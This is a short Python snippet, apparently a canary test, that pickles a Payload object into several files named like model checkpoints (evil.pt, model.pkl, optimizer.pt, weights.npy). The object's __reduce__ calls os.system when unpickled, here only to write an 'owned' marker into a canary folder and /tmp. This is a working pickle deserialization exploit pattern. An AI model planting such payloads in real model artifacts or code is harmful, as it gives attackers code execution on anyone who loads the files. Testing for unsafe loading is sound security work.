class Payload:
    def __reduce__(self):
        return os.system, (f"echo owned > {CANARY_FOLDER}/owned; echo owned > /tmp/owned",)


def after_training():
    import pickle

    for name in ("evil.pt", "model.pkl", "state.npz", "optimizer.pt", "weights.npy"):
        with open(name, "wb") as file:
            pickle.dump(Payload(), file)
